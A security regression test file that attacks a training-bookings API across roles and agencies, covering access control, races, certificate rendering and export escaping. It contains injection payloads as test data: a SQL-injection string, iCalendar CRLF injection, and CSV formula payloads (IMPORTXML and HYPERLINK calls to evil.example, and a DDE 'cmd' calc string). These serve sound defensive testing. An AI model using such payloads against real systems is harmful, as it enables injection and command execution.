// A hostile review of the training bookings area (issue 11): courses,
// sessions, bookings, the register, charges, certificates, completions,
// evaluations, the calendar, and 008/014's row-level security, attacked as
// every role of every agency.  One describe per attack class.  Findings that
// were fixed assert the fixed behaviour (they failed before the fix); the
// ones whose fix belongs elsewhere are marked `todo` (they run and report but
// do not fail the suite) and say where: drop the `todo` with the fix.  What
// held is kept as regressions to watch.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BASE, request, psql } from './lib/client.mjs';
import {
  person, admin, subOf, manager, course, session, book, cancel, startedAgo, iso, inDays, localDate, localInstant,
} from './lib/training.mjs';

const TA = admin();
const AGENCIES = ['csc', 'police', 'health', 'mental_health', 'education', 'youth_justice', 'district', 'voluntary', 'partnership'];
const ROLES = ['practitioner', 'safeguarding_lead', 'social_worker', 'panel_chair', 'panel_member', 'training_admin', 'auditor', 'admin'];
const all = (fns) => Promise.all(fns.map((f) => f()));
const mark = (id, status) => request('PUT', `/v1/bookings/${id}/attendance`, { token: TA, body: { status } });
const q = (sql) => psql(sql);

// A session that has started, with one confirmed booking per token given.
async function heldSession(tokens, opts = {}) {
  const c = await course(TA, opts.course || {});
  const s = await session(TA, c.id, { capacity: 50, ...(opts.session || {}) });
  const bookings = [];
  for (const t of tokens) {
    const res = await book(t, s.id, { body: opts.body || manager });
    assert.equal(res.status, 201, res.text);
    bookings.push(res.body);
  }
  startedAgo(s.id);
  return { c, s, bookings };
}

// The database as the API's role with someone's identity (app.email as
// begin_request sets it: the token's, or '' for a token without one): the
// last line of psql's output, or the error's text.
function asApi(sub, agency, roles, sql, email = '') {
  try {
    return psql(`select set_config('role', 'safeguard_api', true), set_config('app.sub', '${sub}', true),
      set_config('app.agency', '${agency}', true), set_config('app.roles', '${roles}', true),
      set_config('app.email', '${email}', true); ${sql}`).split('\n').at(-1);
  } catch (e) {
    return `ERROR ${e.message}`;
  }
}
const refused = (out) => /row-level security/.test(out);

// The text of a certificate's PDF, read back with pdftotext.
async function certificateText(token, bookingId) {
  const raw = await fetch(`${BASE}/v1/bookings/${bookingId}/certificate`, { headers: { Authorization: `Bearer ${token}`, Accept: 'application/pdf' } });
  assert.equal(raw.status, 200);
  assert.equal(raw.headers.get('content-type'), 'application/pdf');
  const dir = mkdtempSync(join(tmpdir(), 'sg-attack-cert-'));
  try {
    const file = join(dir, 'c.pdf');
    writeFileSync(file, Buffer.from(await raw.arrayBuffer()));
    assert.match(execFileSync('pdfinfo', [file], { encoding: 'utf8' }), /Pages:\s+1/);
    return execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('reading other people\'s records, as every role of every agency', () => {
  it('a booking, its certificate and evaluations: the delegate, their agency\'s lead and training admins; anyone else 404', async () => {
    // one attended booking (certificate, evaluation) in police and one in health
    const owners = { police: person('police', 'practitioner'), health: person('health', 'practitioner') };
    const { bookings: [pb, hb] } = await heldSession([owners.police, owners.health]);
    for (const [b, t] of [[pb, owners.police], [hb, owners.health]]) {
      assert.equal((await mark(b.id, 'attended')).status, 200);
      assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: t, body: { respondent: 'delegate', rating: 4 } })).status, 201);
    }
    const wrong = [];
    for (const agency of AGENCIES) {
      for (const role of ROLES) {
        if (role === 'social_worker' && agency !== 'csc') continue;
        const t = person(agency, role);
        for (const [owner, b] of [['police', pb], ['health', hb]]) {
          const may = role === 'training_admin' || (role === 'safeguarding_lead' && agency === owner);
          for (const path of [`/v1/bookings/${b.id}`, `/v1/bookings/${b.id}/certificate`, `/v1/bookings/${b.id}/evaluations`]) {
            const res = await request('GET', path, { token: t });
            if (res.status !== (may ? 200 : 404)) wrong.push(`${agency}/${role} GET ${path} (${owner}'s): ${res.status}`);
          }
        }
      }
    }
    assert.deepEqual(wrong, []);
  });

  it('a lead asking for another agency\'s bookings and completions by filter gets none; other roles get 403', async () => {
    const { s, bookings: [b] } = await heldSession([person('education', 'practitioner')]);
    const el = await course(TA, { format: 'e_learning', duration_minutes: 20 });
    const learner = person('education', 'practitioner');
    const x = await request('POST', `/v1/courses/${el.id}/completions`, { token: learner, body: {} });
    assert.equal(x.status, 201);
    const lead = person('police', 'safeguarding_lead');
    for (const path of [`/v1/bookings?agency=education&session_id=${s.id}`, `/v1/training-sessions/${s.id}/bookings`]) {
      const res = await request('GET', path, { token: lead });
      assert.equal(res.status, 200, path);
      assert.deepEqual(res.body.items, [], path);
    }
    const comp = await request('GET', `/v1/completions?agency=education&course_id=${el.id}`, { token: lead });
    assert.deepEqual(comp.body.items, []);
    const own = await request('GET', `/v1/completions?course_id=${el.id}`, { token: person('education', 'safeguarding_lead') });
    assert.deepEqual(own.body.items.map((i) => i.id), [x.body.id]);
    for (const t of [person('education', 'practitioner'), person('partnership', 'auditor'), person('partnership', 'admin'), person('education', 'panel_chair')]) {
      assert.equal((await request('GET', `/v1/bookings?session_id=${s.id}`, { token: t })).status, 403);
      assert.equal((await request('GET', `/v1/training-sessions/${s.id}/bookings`, { token: t })).status, 403);
      assert.deepEqual((await request('GET', `/v1/completions?course_id=${el.id}`, { token: t })).body.items, []);
    }
    assert.equal(b.delegate.agency, 'education');
  });

  it('acting on another person\'s booking (cancel, evaluate, mark, waive) changes nothing', async () => {
    const d = person('district', 'practitioner');
    const c = await course(TA);
    const s = await session(TA, c.id);
    const b = (await book(d, s.id)).body;
    const before = q(`select row_to_json(b)::text from safeguard.training_bookings b where id = '${b.id}'`);
    for (const agency of AGENCIES) {
      for (const role of ROLES.filter((r) => r !== 'training_admin' && (r !== 'social_worker' || agency === 'csc'))) {
        const t = person(agency, role);
        const may = role === 'safeguarding_lead' && agency === 'district';
        const res = await cancel(t, b.id);
        assert.equal(res.status, may ? 403 : 404, `${agency}/${role} cancel`);
        const ev = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: t, body: { respondent: 'delegate', rating: 1 } });
        assert.equal(ev.status, may ? 403 : 404, `${agency}/${role} evaluate`);
        assert.equal((await request('PUT', `/v1/bookings/${b.id}/attendance`, { token: t, body: { status: 'no_show' } })).status, 403);
      }
    }
    assert.equal(q(`select row_to_json(b)::text from safeguard.training_bookings b where id = '${b.id}'`), before);
  });

  it('certificate numbers are verified by training admins only; guessed and malformed numbers are 404', async () => {
    const d = person('voluntary', 'practitioner');
    const { bookings: [b] } = await heldSession([d]);
    const number = (await mark(b.id, 'attended')).body.certificate_number;
    for (const agency of AGENCIES) {
      for (const role of ROLES.filter((r) => r !== 'training_admin' && (r !== 'social_worker' || agency === 'csc'))) {
        const res = await request('GET', `/v1/certificates/${number}`, { token: person(agency, role) });
        assert.equal(res.status, 403, `${agency}/${role}`);
      }
    }
    const [prefix, year, serial] = number.split('-');
    const next = `${prefix}-${year}-${String(Number(serial) + 100000).padStart(6, '0')}`;
    for (const guess of [next, `${prefix}-${year}-000000`, number.toLowerCase(), `${number}0`.replace(/^/, 'X'), `${number}%00`, `${number}' or '1'='1`]) {
      const res = await request('GET', `/v1/certificates/${encodeURIComponent(guess)}`, { token: TA });
      assert.equal(res.status, 404, guess);
    }
    assert.equal((await request('GET', `/v1/certificates/${number}`, { token: TA })).body.delegate_name, `Delegate ${subOf(d)}`);
  });
});

describe('booking for someone else', () => {
  it('body fields that name another person, agency or a server fact are refused as read-only', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id);
    const p = person('police', 'practitioner');
    const res = await book(p, s.id, {
      body: {
        ...manager, delegate_sub: 'victim', delegate_email: 'victim@health.example.org', delegate_agency: 'health',
        delegate: { sub: 'victim' }, agency: 'health', email: 'victim@health.example.org', sub: 'victim', name: 'Victim',
        status: 'confirmed', waitlist_position: 1,
      },
    });
    assert.equal(res.status, 400);
    const codes = Object.fromEntries(res.body.errors.map((e) => [e.field, e.code]));
    for (const f of ['delegate_sub', 'delegate_email', 'delegate_agency', 'delegate', 'agency', 'email', 'sub', 'name', 'status', 'waitlist_position']) {
      assert.equal(codes[f], 'read_only', `${f}: ${JSON.stringify(res.body.errors)}`);
    }
    assert.equal(q(`select count(*) from safeguard.training_bookings where session_id = '${s.id}'`), '0');
    // and with the token's own facts, the booking is the token's, whatever else
    const ok = await book(p, s.id);
    assert.deepEqual([ok.body.delegate.sub, ok.body.delegate.agency], [subOf(p), 'police']);
  });

  it('completion and evaluation bodies naming someone are refused as read-only too', async () => {
    const el = await course(TA, { format: 'e_learning', duration_minutes: 20 });
    const p = person('health', 'practitioner');
    let res = await request('POST', `/v1/courses/${el.id}/completions`, { token: p, body: { delegate_sub: 'victim', agency: 'police' } });
    assert.equal(res.status, 400);
    assert.deepEqual(res.body.errors.map((e) => [e.field, e.code]).sort(), [['agency', 'read_only'], ['delegate_sub', 'read_only']]);
    const { bookings: [b] } = await heldSession([p]);
    await mark(b.id, 'attended');
    res = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: p, body: { respondent: 'delegate', rating: 5, respondent_sub: 'victim' } });
    assert.equal(res.status, 400);
    assert.deepEqual(res.body.errors.map((e) => [e.field, e.code]), [['respondent_sub', 'read_only']]);
  });
});

describe('booking outside the rules, through the API', () => {
  it('briefings for leads, agency audiences, closed, started, cancelled, draft and retired: refused, nothing written', async () => {
    const brief = await course(TA, { format: 'seven_minute_briefing' });
    const bs = await session(TA, brief.id);
    for (const agency of AGENCIES) {
      for (const role of ROLES.filter((r) => r !== 'safeguarding_lead')) {
        if (role === 'social_worker' && agency !== 'csc') continue;
        const res = await book(person(agency, role), bs.id);
        assert.equal(res.status, 403, `${agency}/${role}`);
        assert.equal(res.body.type, '/problems/outside-audience');
      }
    }
    // several roles, one of them a lead: in the audience
    assert.equal((await book(person('police', ['practitioner', 'safeguarding_lead']), bs.id)).status, 201);
    assert.equal(q(`select count(*) from safeguard.training_bookings where session_id = '${bs.id}'`), '1');

    const c = await course(TA);
    const closed = await session(TA, c.id);
    psql(`update safeguard.training_sessions set booking_closes_at = now() where id = '${closed.id}'`);
    assert.equal((await book(person('police', 'practitioner'), closed.id)).body.type, '/problems/booking-closed');
    const retiring = await course(TA);
    const old = await session(TA, retiring.id);
    const holder = person('police', 'practitioner');
    await book(holder, old.id);
    startedAgo(old.id, 30);
    const cur = await request('GET', `/v1/courses/${retiring.id}`, { token: TA });
    assert.equal((await request('PATCH', `/v1/courses/${retiring.id}`, { token: TA, body: { status: 'retired' }, headers: { 'If-Match': cur.headers.get('etag') } })).status, 200);
    // the holder still sees the session through their booking, and is told why
    const res = await book(holder, old.id);
    assert.equal(res.status, 409);
    assert.equal((await book(person('police', 'practitioner'), old.id)).status, 404);
  });
});

describe('the cut-off around midnight and the clock changes (Europe/London)', () => {
  // free until the end of day D-6, local time: 00:00 of D-5 in the zone,
  // which is 23:00Z the day before in summer time and 00:00Z in winter
  const cases = [
    ['2027-04-02T08:00:00Z', '2027-03-28T00:00:00Z'], // D-5 is the day the clocks go forward: midnight still GMT
    ['2027-04-02T23:30:00Z', '2027-03-28T23:00:00Z'], // 00:30 BST on the 3rd: its own day, D-5 in BST
    ['2027-04-03T00:30:00Z', '2027-03-28T23:00:00Z'],
    ['2027-11-04T00:30:00Z', '2027-10-29T23:00:00Z'], // D-5 is the day before they go back: still BST
    ['2027-11-05T09:00:00Z', '2027-10-30T23:00:00Z'], // D-5 is the day they go back: its midnight is BST
    ['2027-11-06T09:00:00Z', '2027-11-01T00:00:00Z'], // D-5 is the first whole GMT day
    ['2027-03-28T00:30:00Z', '2027-03-23T00:00:00Z'],
    ['2027-03-28T23:30:00Z', '2027-03-24T00:00:00Z'], // 00:30 BST on the 29th
  ];
  for (const [start, until] of cases) {
    it(`a session at ${start} is free to cancel until ${until}`, async () => {
      const c = await course(TA);
      const s = await session(TA, c.id, { starts_at: start, ends_at: iso(new Date(Date.parse(start) + 3600000)) });
      assert.equal(s.free_cancellation_until, until);
    });
  }

  it('one minute either side of a local midnight: the session\'s day decides, not the UTC one', async () => {
    const c = await course(TA);
    const day = localDate(6);
    const before = await session(TA, c.id, { starts_at: localInstant(localDate(5), '23:59'), ends_at: localInstant(day, '00:59') });
    const after = await session(TA, c.id, { starts_at: localInstant(day, '00:01'), ends_at: localInstant(day, '01:01') });
    const p = person('police', 'practitioner');
    const [b1, b2] = [(await book(p, before.id)).body, (await book(p, after.id)).body];
    assert.deepEqual([(await cancel(p, b1.id)).body.status, (await cancel(p, b2.id)).body.status], ['late_cancelled', 'cancelled']);
  });
});

describe('races', () => {
  it('the same Idempotency-Key from four agencies at once: four people, four bookings, no replay across them', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id, { capacity: 3 });
    const key = `shared-${randomUUID()}`;
    const people = ['police', 'health', 'csc', 'education'].map((a) => person(a, 'practitioner', `idem-${a}-${randomUUID().slice(0, 6)}`));
    const answers = await all(people.map((p) => () => book(p, s.id, { headers: { 'Idempotency-Key': key } })));
    assert.deepEqual(answers.map((a) => a.status), [201, 201, 201, 201]);
    assert.ok(answers.every((a) => a.headers.get('idempotent-replayed') !== 'true'));
    assert.deepEqual(answers.map((a) => a.body.delegate.sub), people.map(subOf));
    assert.deepEqual(answers.map((a) => a.body.status).sort(), ['confirmed', 'confirmed', 'confirmed', 'waitlisted']);
    // the same person under two agencies (one sub): still one live booking
    const sub = `two-hats-${randomUUID().slice(0, 6)}`;
    const twice = await all(['police', 'health'].map((a) => () => book(person(a, 'practitioner', sub), s.id, { headers: { 'Idempotency-Key': key } })));
    assert.deepEqual(twice.map((a) => a.status).sort(), [201, 409]);
  });

  it('capacity lowered while 30 book at once: never more confirmed than the capacity, no answer but 201 and 200/409', async () => {
    for (let round = 0; round < 2; round++) {
      const c = await course(TA);
      const s = await session(TA, c.id, { capacity: 20 });
      const people = Array.from({ length: 30 }, () => person('police', 'practitioner'));
      for (const p of people.slice(0, 8)) await book(p, s.id);
      const cur = await request('GET', `/v1/training-sessions/${s.id}`, { token: TA });
      const patch = () => request('PATCH', `/v1/training-sessions/${s.id}`, { token: TA, body: { capacity: 10 }, headers: { 'If-Match': cur.headers.get('etag') } });
      const fire = people.slice(8).map((p) => () => book(p, s.id));
      const at = round === 0 ? 0 : 11;
      fire.splice(at, 0, patch);
      const answers = await all(fire);
      const p = answers[at];
      assert.ok([200, 409].includes(p.status), JSON.stringify(p.body));
      assert.ok(answers.filter((a) => a !== p).every((a) => a.status === 201));
      const [cap, confirmed] = q(`select s.capacity || ' ' || (select count(*) from safeguard.training_bookings b where b.session_id = s.id and b.status = 'confirmed')
        from safeguard.training_sessions s where s.id = '${s.id}'`).split(' ').map(Number);
      assert.ok(confirmed <= cap, `${confirmed} confirmed of ${cap}`);
      assert.equal(confirmed, Math.min(cap, 30));
      assert.equal(cap, p.status === 200 ? 10 : 20);
      assert.equal(q(`select bool_and(status = 'confirmed') from safeguard.training_bookings where session_id = '${s.id}' and queue_seq <= ${cap}`), 't');
    }
  });

  it('cancellations, new bookings and a capacity rise all at once: the queue stays dense and never skips', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id, { capacity: 20 });
    const people = Array.from({ length: 40 }, (_, i) => person(AGENCIES[i % 9], 'practitioner'));
    const bookings = [];
    for (const p of people) bookings.push((await book(p, s.id)).body);
    const newcomers = Array.from({ length: 15 }, () => person('health', 'practitioner'));
    const cur = await request('GET', `/v1/training-sessions/${s.id}`, { token: TA });
    const answers = await all([
      ...[0, 3, 5, 8, 13, 19].map((i) => () => cancel(people[i], bookings[i].id)), // confirmed leave
      ...[21, 25, 30, 39].map((i) => () => cancel(people[i], bookings[i].id)), // waiting leave
      ...newcomers.map((p) => () => book(p, s.id)),
      () => request('PATCH', `/v1/training-sessions/${s.id}`, { token: TA, body: { capacity: 23 }, headers: { 'If-Match': cur.headers.get('etag') } }),
    ]);
    assert.ok(answers.every((a) => a.status === 200 || a.status === 201), JSON.stringify(answers.filter((a) => a.status >= 300).map((a) => a.body)));
    const rows = q(`select status from safeguard.training_bookings where session_id = '${s.id}' order by queue_seq`).split('\n');
    const live = rows.filter((r) => r === 'confirmed' || r === 'waitlisted');
    assert.equal(rows.filter((r) => r === 'confirmed').length, 23);
    // the confirmed are the first 23 still live in arrival order: nobody waiting ahead of a confirmed place
    assert.deepEqual(live.slice(0, 23), Array(23).fill('confirmed'));
    assert.ok(live.slice(23).every((r) => r === 'waitlisted'));
    const waiting = await all(bookings.concat(answers.filter((a) => a.status === 201).map((a) => a.body))
      .map((b) => () => request('GET', `/v1/bookings/${b.id}`, { token: TA })));
    const positions = waiting.filter((a) => a.body.status === 'waitlisted').map((a) => a.body.waitlist_position).sort((x, y) => x - y);
    assert.deepEqual(positions, Array.from({ length: live.length - 23 }, (_, i) => i + 1));
  });

  it('cancellations racing the register across the session\'s start: each booking ends one way, never both', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id, { capacity: 40 });
    const people = Array.from({ length: 16 }, () => person('health', 'practitioner'));
    const bookings = [];
    for (const p of people) bookings.push((await book(p, s.id)).body);
    psql(`update safeguard.training_sessions set starts_at = now() + interval '1 second', ends_at = now() + interval '2 hours',
          booking_closes_at = now() where id = '${s.id}'`);
    const wait = (ms) => new Promise((r) => { setTimeout(r, ms); });
    const answers = await all(bookings.flatMap((b, i) => [
      async () => { await wait(i * 120); return cancel(people[i], b.id); },
      async () => { await wait(i * 120); return mark(b.id, 'attended'); },
    ]));
    assert.ok(answers.every((a) => a.status === 200 || a.status === 409), JSON.stringify(answers.map((a) => a.status)));
    for (let i = 0; i < bookings.length; i++) {
      const [cx, mk] = [answers[2 * i], answers[2 * i + 1]];
      assert.equal((cx.status === 200) + (mk.status === 200), 1, `booking ${i}: cancel ${cx.status}, mark ${mk.status}`);
    }
    assert.equal(q(`select count(*) from safeguard.training_bookings where session_id = '${s.id}'
                    and (status in ('cancelled', 'late_cancelled')) = (attendance_marked_at is not null)`), '0');
  });
});

describe('certificates with hostile names', () => {
  it('a 200-character name, with or without spaces, is printed whole, never cut or run off the page', async () => {
    const words = Array.from({ length: 40 }, (_, i) => `Name${i}`).join(' ').slice(0, 200);
    const unbroken = 'W'.repeat(200);
    const tokens = [words, unbroken].map((name) => person('police', 'practitioner', undefined, { name }));
    const { bookings } = await heldSession(tokens, { course: { title: `Exploitation ${'and missing education '.repeat(8)}`.slice(0, 200) } });
    for (const [i, name] of [words, unbroken].entries()) {
      await mark(bookings[i].id, 'attended');
      const text = await certificateText(tokens[i], bookings[i].id);
      assert.ok(!text.includes('...'), 'nothing is cut short');
      // the whole name, wrapped over lines perhaps, every character of it
      assert.ok(text.replace(/\s+/g, '').includes(name.replace(/\s+/g, '')), `the whole name: ${text.slice(0, 400)}`);
    }
  });

  it('control characters in a name print as spaces, not missing-glyph boxes or broken lines', async () => {
    const name = 'Ann\tMarie\u0001 O\u007fNeill\u0085Smith';
    const t = person('health', 'practitioner', undefined, { name });
    const { bookings: [b] } = await heldSession([t]);
    await mark(b.id, 'attended');
    const text = await certificateText(t, b.id);
    assert.ok(!/[\u0000-\u0008\u000b\u000d-\u001f\u007f-\u009f]/.test(text), JSON.stringify(text.slice(0, 200))); // (\f: pdftotext's page end)
    assert.ok(/Ann Marie +O +Neill +Smith/.test(text), JSON.stringify(text.slice(0, 200)));
  });

  it('PDF syntax, combining marks, CJK and emoji in a name: no crash, the name rendered as it is', async () => {
    const names = ['A (B) \\ C ) ( %PDF-1.4 endobj stream <</JS (app.alert(1))>>', 'Zoe\u0308 Ame\u0301lie Nguye\u0302\u0303n', '王小明', 'Sam 🙂 Smith'];
    const tokens = names.map((name) => person('mental_health', 'practitioner', undefined, { name }));
    const { bookings } = await heldSession(tokens);
    for (const [i, name] of names.entries()) {
      await mark(bookings[i].id, 'attended');
      const text = (await certificateText(tokens[i], bookings[i].id)).normalize('NFC').replace(/\s+/g, ' ');
      assert.ok(text.includes(name.normalize('NFC')), `${name}: ${text.slice(0, 200)}`);
    }
  });

  // Pango lays the text out: bidi puts a Hebrew or Arabic name in visual
  // order on the page, which pdftotext reads back in logical order (cairo's
  // own text API drew the letters left to right in logical order, so they
  // came back reversed).  pdftotext marks the right-to-left run with
  // embedding controls, and for a run inside a left-to-right line moves the
  // space beside it: the words and every letter in order are what counts.
  it('right-to-left names are rendered right to left', async () => {
    const names = ['שרה כהן', 'محمد عبد الله', 'Ahmed محمد Khan'];
    const tokens = names.map((name) => person('csc', 'practitioner', undefined, { name }));
    const { bookings } = await heldSession(tokens);
    for (const [i, name] of names.entries()) {
      await mark(bookings[i].id, 'attended');
      const text = (await certificateText(tokens[i], bookings[i].id)).replace(/[\u200e\u200f\u202a-\u202e]/g, '');
      const lines = text.split('\n').map((l) => l.trim());
      assert.equal(lines[0], 'Certificate of attendance');
      const line = lines.find((l) => /[\u0590-\u06ff]/.test(l)) ?? '';
      assert.equal(line.replace(/\s+/g, ''), name.replace(/\s+/g, ''), `${name}: ${JSON.stringify(text.slice(0, 200))}`);
      if (!/[A-Za-z]/.test(name)) assert.equal(line, name);
      const reversed = [...name].reverse().join('');
      assert.ok(!text.includes(reversed.replace(/\s+/g, ' ')), 'not backwards');
    }
  });
});

describe('iCalendar injection', () => {
  it('CR/LF, commas, semicolons and backslashes in titles, venues and organisers: escaped, folded, one event per booking', async () => {
    const title = 'Evil\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected;x,y\\z';
    const c = await course(TA, { title, organiser: 'Org;\r\nATTACH:https://evil.example/x' });
    const venue = await session(TA, c.id, { mode: 'venue', venue: { name: 'Hall\r\nEND:VCALENDAR', address: 'A;B,C\\D\nE', postcode: 'OX1 1ND' } });
    const online = await session(TA, c.id, { online_url: `https://meet.example.org/${'x'.repeat(120)}?a=1;b=2,c` });
    const p = person('police', 'practitioner');
    await book(p, venue.id);
    await book(p, online.id);
    const res = await request('GET', '/v1/me/bookings.ics', { token: p });
    assert.equal(res.status, 200);
    assert.ok(!/[^\r]\n|\r[^\n]/.test(res.text), 'only CRLF line ends');
    const physical = res.text.split('\r\n');
    assert.ok(physical.every((l) => Buffer.byteLength(l) <= 75), 'folded at 75 octets');
    const lines = res.text.replace(/\r\n /g, '').split('\r\n');
    assert.equal(lines.filter((l) => l === 'BEGIN:VEVENT').length, 2);
    assert.equal(lines.filter((l) => l === 'END:VCALENDAR').length, 1);
    assert.ok(!lines.some((l) => /^(ATTACH|SUMMARY:injected)/.test(l)));
    const summaries = lines.filter((l) => l.startsWith('SUMMARY:'));
    assert.deepEqual(summaries, Array(2).fill('SUMMARY:Evil\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:injected\\;x\\,y\\\\z'));
    assert.ok(lines.includes('LOCATION:Hall\\nEND:VCALENDAR\\, A\\;B\\,C\\\\D\\nE\\, OX1 1ND'), lines.join('\n'));
    assert.ok(lines.some((l) => l.startsWith('DESCRIPTION:Organised by Org\\;\\nATTACH:https://evil.example/x.')));
    assert.ok(lines.includes(`URL:https://meet.example.org/${'x'.repeat(120)}?a=1;b=2,c`));
  });
});

describe('CSV formula injection in the finance export', () => {
  it('a formula behind leading spaces, a line feed or a Unicode blank, in every text column, is neutralised', async () => {
    const payloads = [' =HYPERLINK("https://evil.example","x")', '  @SUM(1+1)', '\n=1+1', '\r\n-2+3', '\u00a0=4+4', '\u3000+5', '\uff1d6+6'];
    const tokens = payloads.map((p, i) => person('district', 'practitioner', `csv-${i}-${randomUUID().slice(0, 6)}`, { name: p }));
    const c = await course(TA, { title: ' =IMPORTXML("https://evil.example","//a")', organiser: ' @x' });
    const s = await session(TA, c.id, { capacity: 20 });
    const bookings = [];
    for (const [i, t] of tokens.entries()) bookings.push((await book(t, s.id, { body: { line_manager_name: payloads[i], line_manager_email: `mgr${i}@example.org` } })).body);
    startedAgo(s.id);
    for (const b of bookings) await mark(b.id, 'no_show');
    const charge = q(`select id from safeguard.training_charges where booking_id = '${bookings[0].id}'`);
    await request('POST', `/v1/training-charges/${charge}/waiver`, { token: TA, body: { reason: ' =cmd|\' /C calc\'!A0' } });
    const res = await request('GET', `/v1/training-charges.csv?agency=district&from=${localDate(0)}&to=${localDate(0)}`, { token: TA });
    assert.equal(res.status, 200);
    // every quoted cell that holds a formula after its leading blanks starts with the apostrophe
    const cells = [...res.text.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replace(/""/g, '"'));
    const blank = /^[\s\u00a0\u1680\u2000-\u200b\u2028\u2029\u202f\u205f\u2060\u3000\ufeff]*/;
    const live = cells.filter((cell) => /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell.replace(blank, '')) || /^[\t\r\n]/.test(cell));
    assert.deepEqual(live, [], 'no cell a spreadsheet would run');
    for (const p of payloads) assert.ok(cells.includes(`'${p}`), JSON.stringify(p));
    assert.ok(cells.includes('\' =IMPORTXML("https://evil.example","//a")'));
    assert.ok(cells.includes('\' =cmd|\' /C calc\'!A0'));
  });
});

describe('values at and past their limits', () => {
  it('a token name of blanks or controls cannot book or complete: 422, nothing written', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id);
    const el = await course(TA, { format: 'e_learning', duration_minutes: 10 });
    for (const name of ['   ', '\t\n', '\u00a0', '\u0001\u0002']) {
      const t = person('police', 'practitioner', undefined, { name });
      const res = await book(t, s.id);
      assert.equal(res.status, 422, JSON.stringify(name));
      assert.equal(res.body.type, '/problems/incomplete-identity');
      assert.equal((await request('POST', `/v1/courses/${el.id}/completions`, { token: t, body: {} })).status, 422);
    }
    assert.equal(q(`select count(*) from safeguard.training_bookings where session_id = '${s.id}'`), '0');
  });

  it('names and reasons at their limits in 4-byte characters are stored; one past is 400; never a 500', async () => {
    const c = await course(TA, { title: '🙂'.repeat(200), description: '🙂'.repeat(5000), organiser: '🙂'.repeat(200) });
    assert.equal((await request('POST', '/v1/courses', { token: TA, body: { title: '🙂'.repeat(201), format: 'webinar', organiser: 'x' } })).status, 400);
    const s = await session(TA, c.id, { capacity: 5000, mode: 'venue', venue: { name: '🙂'.repeat(200), address: '🙂'.repeat(300), postcode: 'OX1 1ND' } });
    const sub = `${'x'.repeat(191)}-${randomUUID().slice(0, 8)}`; // 200, the limit of a token's sub
    const p = person('police', 'practitioner', sub, { name: 'n'.repeat(200), email: `${sub.slice(0, 181)}@police.example.org` });
    let res = await book(p, s.id, { body: { line_manager_name: '🙂'.repeat(201), line_manager_email: 'm@example.org' } });
    assert.equal(res.status, 400);
    res = await book(p, s.id, { body: { line_manager_name: '🙂'.repeat(200), line_manager_email: `${'m'.repeat(186)}@example.org` } });
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.line_manager.name, '🙂'.repeat(200));
    res = await cancel(p, res.body.id, { reason: '🙂'.repeat(1000) });
    assert.equal(res.status, 200);
    const other = (await book(person('police', 'practitioner', undefined, { name: '🙂'.repeat(50) }), s.id)).body;
    const cx = await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: TA, body: { reason: '🙂'.repeat(1000) } });
    assert.equal(cx.status, 200);
    assert.equal((await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: TA, body: { reason: '🙂'.repeat(1001) } })).status, 400);
    assert.equal(q(`select length(cancellation_reason) from safeguard.training_bookings where id = '${other.id}'`), '1027');
  });
});

describe('the meeting link', () => {
  it('an online session\'s link is for training admins and those holding a place, not for every reader or the waiting list', async () => {
    const c = await course(TA);
    const url = `https://meet.example.org/${randomUUID()}`;
    const s = await session(TA, c.id, { capacity: 1, online_url: url });
    assert.equal(s.online_url, url, 'the training admin sees it');
    const reader = person('education', 'practitioner');
    let res = await request('GET', `/v1/training-sessions/${s.id}`, { token: reader });
    assert.equal(res.body.online_url, null, 'a reader of the catalogue does not');
    res = await request('GET', `/v1/courses/${c.id}/sessions`, { token: reader });
    assert.equal(res.body.items[0].online_url, null);
    const holder = person('education', 'practitioner');
    const held = (await book(holder, s.id)).body;
    assert.equal(held.session.online_url, url, 'the delegate with a place does');
    assert.equal((await request('GET', `/v1/training-sessions/${s.id}`, { token: holder })).body.online_url, url);
    const waiter = person('education', 'practitioner');
    const waiting = (await book(waiter, s.id)).body;
    assert.equal(waiting.status, 'waitlisted');
    assert.equal(waiting.session.online_url, null, 'the waiting list does not');
    const ics = await request('GET', '/v1/me/bookings.ics', { token: waiter });
    assert.ok(!ics.text.includes(url));
    // a lead reading a colleague's booking does not need it
    assert.equal((await request('GET', `/v1/bookings/${held.id}`, { token: person('education', 'safeguarding_lead') })).body.session.online_url, null);
    // promoted, they do
    await cancel(holder, held.id);
    assert.equal((await request('GET', `/v1/bookings/${waiting.id}`, { token: waiter })).body.session.online_url, url);
  });
});

describe('row-level security alone, with a person\'s identity', () => {
  const insertBooking = (sessionId, sub, agency, status, seq, extra = '') => `with i as (insert into safeguard.training_bookings
    (id, session_id, delegate_sub, delegate_name, delegate_email, delegate_agency, line_manager_name, line_manager_email, status, queue_seq${extra ? ', promoted_at' : ''})
    values (gen_random_uuid(), '${sessionId}', '${sub}', 'N', 'n@example.org', '${agency}', 'M', 'm@example.org', '${status}', ${seq}${extra}) returning 1) select count(*) from i`;

  it('refuses a booking the API would refuse: outside the audience, draft, closed, cancelled, started, queue-jumping', async () => {
    const brief = await course(TA, { format: 'seven_minute_briefing' });
    const bs = await session(TA, brief.id);
    const draft = await course(TA, { status: 'draft' });
    const ds = await session(TA, draft.id);
    const c = await course(TA);
    const closed = await session(TA, c.id);
    psql(`update safeguard.training_sessions set booking_closes_at = now() - interval '1 minute' where id = '${closed.id}'`);
    const off = await session(TA, c.id);
    await request('POST', `/v1/training-sessions/${off.id}/cancellation`, { token: TA, body: { reason: 'x' } });
